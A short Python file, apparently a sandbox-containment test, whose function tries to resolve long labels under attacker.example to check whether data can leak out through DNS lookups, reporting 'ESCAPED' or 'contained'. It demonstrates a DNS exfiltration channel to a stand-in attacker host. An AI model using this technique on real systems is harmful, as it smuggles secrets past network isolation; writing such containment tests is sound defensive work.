"""Carry the secret out in a name."""

META = {"group": "network", "seen": "net:"}


def attack():
    import socket

    for label in ("s" * 60, "x" * 63 + ".y"):
        try:
            socket.getaddrinfo(f"{label}.attacker.example", 80)
            return "ESCAPED: the name resolved"
        except OSError:
            pass
    return "contained"
